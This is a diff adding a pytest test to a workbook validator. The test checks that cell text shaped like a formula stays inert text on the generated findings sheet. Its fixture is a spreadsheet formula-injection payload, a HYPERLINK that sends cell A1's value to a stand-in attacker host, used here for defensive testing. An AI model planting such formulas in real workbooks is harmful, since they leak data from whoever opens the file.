@@ -118,3 +118,23 @@ def test_a_clean_workbook_gets_a_findings_sheet_too(tmp_path: Path) -> None:
     sections = [r[0] for r in rows[header + 1:] if r[1] is None]
     assert sections[-1] == "For management attention"  # after any workbook warnings
     assert all(s in ("Fix the workbook", "For management attention") for s in sections)
+
+
+def test_cell_text_that_looks_like_a_formula_stays_text_on_the_findings_sheet(
+        mutate: Mutate, tmp_path: Path) -> None:
+    # the findings sheet quotes the cell's value: a HYPERLINK typed as text must not come back live
+    def fn(wb: Workbook) -> None:
+        cell = wb["f Risks"]["F5"]  # a score: text in it is a finding that quotes the value
+        cell.value = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+        cell.data_type = "s"
+
+    out = tmp_path / "checked.xlsx"
+    code, _, _ = run_cli("validate", str(mutate(fn)), "--annotate", str(out))
+    assert code == 1
+    import zipfile
+
+    with zipfile.ZipFile(out) as zf:
+        names = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert not any(b"HYPERLINK" in zf.read(n) and b"<f>" in zf.read(n) for n in names)
+    _, rows = _rows(out)
+    assert any('=HYPERLINK("http://evil.example/?x="&A1,"click")' in str(v) for r in rows for v in r)
